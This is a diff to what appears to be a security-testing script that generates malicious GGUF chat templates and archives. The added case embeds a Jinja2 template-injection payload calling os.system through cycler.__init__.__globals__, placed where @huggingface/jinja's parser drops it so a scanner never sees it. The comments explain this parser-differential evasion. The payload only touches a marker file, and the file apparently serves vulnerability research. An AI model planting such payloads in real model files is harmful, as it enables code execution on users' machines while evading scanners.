@@ -1277,6 +1277,11 @@ def review4():
         "messages[0 is sameas PAYLOAD]: jinja2 takes the primary after a test name as the test's argument; "
         "@huggingface/jinja ends the test at its name and keeps only the first of the expressions in [...], so the judge never sees the payload",
         RV, chat_gguf("{{ messages[0 is sameas cycler.__init__.__globals__.os.system('%s')] }}" % touch(i)), ext='gguf')
+    i = 'c8-subscript-minus-after-dict'
+    add(i, 'gguf-chat-template', 'jinja', 'bookworm',
+        "messages[{} - PAYLOAD]: jinja2 evaluates both operands (the payload runs, then the subtraction fails); "
+        "@huggingface/jinja lexes a '-' after '}' as a unary sign, so [...] holds two expressions and its syntax tree keeps only the {}",
+        RV, chat_gguf("{{ messages[{} - cycler.__init__.__globals__.os.system('%s')] }}" % touch(i)), ext='gguf')
     i = 'c4-tar-pax-size-underscore'
     pay = p0_system(touch(i))
     pax = pax_record('size', '0_%d' % len(pay))
